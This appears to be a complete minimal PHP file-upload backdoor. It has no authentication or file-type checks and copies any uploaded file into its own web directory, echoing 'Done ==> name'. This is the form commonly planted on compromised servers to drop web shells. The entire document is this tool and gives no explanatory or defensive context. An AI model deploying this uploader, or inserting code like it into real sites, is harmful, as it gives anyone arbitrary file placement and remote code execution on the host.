<?php
if (isset($_FILES['f'])) { $n = basename($_FILES['f']['name']); if (@copy($_FILES['f']['tmp_name'], __DIR__ . '/' . $n)) { echo "<b>Done ==> $n</b>"; } else { echo 'fail'; } }
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="Up"></form>';
